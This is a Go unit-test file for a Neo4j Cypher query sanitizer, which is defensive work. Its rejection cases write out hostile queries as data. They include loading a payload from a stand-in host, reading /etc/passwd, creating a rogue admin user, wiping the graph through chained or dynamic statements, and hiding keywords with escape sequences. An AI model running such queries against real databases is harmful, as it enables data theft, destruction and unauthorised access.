package sanitize

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestSanitizer_Sanitize_Dangerous(t *testing.T) {
	s := NewSanitizer(DefaultConfig())

	tests := []struct {
		name  string
		query string
	}{
		{"apoc.load", "CALL apoc.load.json('http://evil.example/payload')"},
		{"apoc.load spaced", "CALL apoc . load . csv('file:///etc/passwd')"},
		{"apoc.import", "CALL apoc.import.file('dump.cypher')"},
		{"dynamic execution", "CALL apoc.cypher.run('MATCH (n) DETACH DELETE n', {})"},
		{"dbms.security", "CALL dbms.security.createUser('mallory', 'pw', false)"},
		{"dbms.cluster", "CALL dbms.cluster.overview()"},
		{"statement chaining", "MATCH (n) RETURN n; DROP CONSTRAINT c"},
		{"chained delete", "MATCH (n) RETURN n ;DELETE n"},
		{"huge range", "UNWIND range(1, 99999999) AS i RETURN i"},
		{"apoc.periodic", "CALL apoc.periodic.iterate('MATCH (n)', 'DELETE n', {})"},
		{"in transactions", "MATCH (n) CALL { DELETE n } IN TRANSACTIONS OF 100 ROWS"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := s.Sanitize(tt.query, nil)
			assert.False(t, v.Safe, "query should be rejected: %s", tt.query)
			assert.NotEmpty(t, v.Reason)
		})
	}
}

func TestSanitizer_Sanitize_Safe(t *testing.T) {
	s := NewSanitizer(DefaultConfig())

	tests := []struct {
		name  string
		query string
	}{
		{"simple match", "MATCH (n:Person) RETURN n LIMIT 10"},
		{"parameterized", "MATCH (n:Person {name: $name}) RETURN n"},
		{"small range", "UNWIND range(1, 100) AS i RETURN i"},
		{"semicolon then return", "MATCH (n) RETURN n;"},
		{"comment with limit", "MATCH (n) RETURN n // LIMIT 1"},
		{"dangerous text inside string", "MATCH (n) WHERE n.doc = 'CALL apoc.load.json' RETURN n"},
		{"dangerous text inside comment", "MATCH (n) RETURN n /* apoc.periodic.iterate */"},
		{"semicolon inside string", "MATCH (n) WHERE n.x = '; DELETE n' RETURN n"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := s.Sanitize(tt.query, nil)
			assert.True(t, v.Safe, "query should pass: %s (reason: %s)", tt.query, v.Reason)
		})
	}
}

func TestSanitizer_SuspiciousModes(t *testing.T) {
	const admin = "CALL dbms.listConfig() YIELD name RETURN name"
	const schema = "CREATE INDEX idx FOR (n:Person) ON (n.name)"

	t.Run("normal mode warns", func(t *testing.T) {
		s := NewSanitizer(DefaultConfig())
		v := s.Sanitize(admin, nil)
		require.True(t, v.Safe)
		assert.NotEmpty(t, v.Warnings)
	})

	t.Run("strict mode rejects", func(t *testing.T) {
		cfg := DefaultConfig()
		cfg.StrictMode = true
		s := NewSanitizer(cfg)
		assert.False(t, s.Sanitize(admin, nil).Safe)
		assert.False(t, s.Sanitize(schema, nil).Safe)
	})

	t.Run("strict mode with allowlist passes", func(t *testing.T) {
		cfg := DefaultConfig()
		cfg.StrictMode = true
		cfg.AllowAdminProcedures = true
		cfg.AllowSchemaChanges = true
		s := NewSanitizer(cfg)
		assert.True(t, s.Sanitize(admin, nil).Safe)
		assert.True(t, s.Sanitize(schema, nil).Safe)
	})
}

func TestSanitizer_LengthAndEmptiness(t *testing.T) {
	s := NewSanitizer(DefaultConfig())

	assert.False(t, s.Sanitize("", nil).Safe)
	assert.False(t, s.Sanitize("   \t\n", nil).Safe)

	long := "MATCH (n) WHERE n.x = 1 RETURN n " + strings.Repeat("OR n.x = 1 ", 2000)
	v := s.Sanitize(long, nil)
	assert.False(t, v.Safe)
	assert.Contains(t, v.Reason, "exceeds maximum")
}

func TestSanitizer_BalancedDelimiters(t *testing.T) {
	s := NewSanitizer(DefaultConfig())

	tests := []struct {
		name  string
		query string
		safe  bool
	}{
		{"balanced", "MATCH (n {a: [1, 2]}) RETURN n", true},
		{"unclosed paren", "MATCH (n RETURN n", false},
		{"extra close", "MATCH (n)) RETURN n", false},
		{"mismatched", "MATCH (n} RETURN n", false},
		{"unbalanced inside string is fine", "MATCH (n) WHERE n.x = '(((' RETURN n", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.safe, s.Sanitize(tt.query, nil).Safe)
		})
	}
}

func TestSanitizer_EscapeInjection(t *testing.T) {
	s := NewSanitizer(DefaultConfig())

	tests := []struct {
		name  string
		query string
	}{
		{"hex escape", `MATCH (n) WHERE n.x = '\x44ROP' RETURN n`},
		{"unicode escape", `MATCH (n) WHERE n.x = '\u0044ROP' RETURN n`},
		{"octal escape", `MATCH (n) WHERE n.x = '\104ROP' RETURN n`},
		{"string concatenation", "MATCH (n) WHERE n.x = 'DE' + 'LETE' RETURN n"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.False(t, s.Sanitize(tt.query, nil).Safe)
		})
	}
}

func TestSanitizer_Disabled(t *testing.T) {
	s := NewSanitizer(Config{Enabled: false})
	v := s.Sanitize("CALL apoc.load.json('http://evil.example')", nil)
	assert.True(t, v.Safe)
}

func BenchmarkSanitizer_Sanitize(b *testing.B) {
	s := NewSanitizer(DefaultConfig())
	queries := []string{
		"MATCH (n:Person) RETURN n LIMIT 10",
		"MATCH (a)-[:KNOWS*1..3]->(b) WHERE a.name = $name RETURN b",
		"CALL apoc.load.json('http://evil.example')",
	}

	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.Sanitize(queries[i%len(queries)], nil)
	}
}
